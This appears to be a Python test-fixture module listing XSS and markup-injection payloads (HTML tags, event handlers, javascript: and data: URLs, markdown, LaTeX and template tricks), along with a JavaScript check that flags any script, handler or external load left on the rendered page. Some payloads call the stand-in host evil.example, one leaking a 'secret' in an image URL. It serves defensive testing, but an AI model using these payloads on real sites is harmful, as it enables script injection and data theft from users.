"""Texts that would run something, load something or change the page if it ever took them for markup.

Each sets ``pwned``, or asks ``evil.example``. A new place that shows somebody's words gets these words (test_attacks.py).
"""

SCRIPTS = [
    "<script>pwned=1</script>",
    "</textarea></title></style></script><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<IMG SRC=https://evil.example/x.png>",
    "<svg onload=pwned=1>",
    "<svg><style><img src=x onerror=pwned=1></style></svg>",
    "<math><mtext></p><img src=x onerror=pwned=1></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1>",
    "<object data=data:text/html,x><embed src=//evil.example/x>",
    "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=pwned=1>",
    "<form action=https://evil.example/><button formaction=javascript:pwned=1>x</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<a href=javascript:pwned=1 id=log name=getElementById>x</a>",
    "<style>*{display:none}@import url(//evil.example/x)</style>",
    "<template><script>pwned=1</script></template><noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "{{constructor.constructor('pwned=1')()}}${pwned=1}<%= pwned=1 %>",
    "javascript:pwned=1",
]

MARKDOWN = [
    "[click](javascript:pwned=1) [click](JaVaScRiPt&colon;pwned=1) [click](<java\nscript:pwned=1>)",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+) [click](vbscript:pwned=1) [c](\x01javascript:pwned=1)",
    "![x](https://evil.example/?q=secret) ![x](javascript:pwned=1) ![x][evil] [x][evil]",
    "[evil]: javascript:pwned=1 'title'",
    '[x](https://x.example/"onmouseover="pwned=1) <https://x.example/"onclick=pwned=1>',
    "<javascript:pwned=1> <data:text/html,x>",
    "https://x.example/<script>pwned=1</script>",
    '```"><img src=x onerror=pwned=1>\n</code></pre><script>pwned=1</script>\n```',
    "```html\n<script>pwned=1</script><img src=x onerror=pwned=1>\n```",
    "| <img src=x onerror=pwned=1> | b |\n|---|---|\n| [x](javascript:pwned=1) | <script>pwned=1</script> |",
    "- [x] <script>pwned=1</script>\n\n[^<img>]: x\n\n[^1]: <img src=x onerror=pwned=1>\n\nsee[^1]",
    r"\( \href{javascript:pwned=1}{x} \) $$\url{javascript:pwned=1} \htmlData{x=1}{y} \includegraphics{https://evil.example/x}$$",
    r"\( \htmlStyle{background:url(//evil.example)}{x} \text{<img src=x onerror=pwned=1>} \)",
    "\ufdd00\ufdd1 \ufdd0999\ufdd1 \u202e<script>pwned=1</script>\u202c \0",
]

ALL = SCRIPTS + MARKDOWN

HARMLESS = r"""() => {
  const wrong = [];
  if ("pwned" in window) wrong.push("a script ran");
  const local = /^(?:static\/|#|blob:|data:image\/|https?:\/\/|mailto:)/i;
  for (const element of document.querySelectorAll("*")) {
    const where = element.outerHTML.slice(0, 200);
    if (/^(?:script|link|style|base|iframe|object|embed|meta)$/i.test(element.localName) && !element.closest("head")) {
      wrong.push(where);
    }
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$|^formaction$/i.test(name)) wrong.push(where);
      if (/^(?:href|src|action|data|xlink:href)$/i.test(name) && value !== "" && !local.test(value.trim())) wrong.push(where);
    }
    if (element.localName === "img" && /^(?:https?:)?\/\//i.test(element.getAttribute("src") ?? "")) wrong.push(where);
  }
  return wrong;
}"""
"""What of the whole page is not as it must be, however hostile the words on it."""
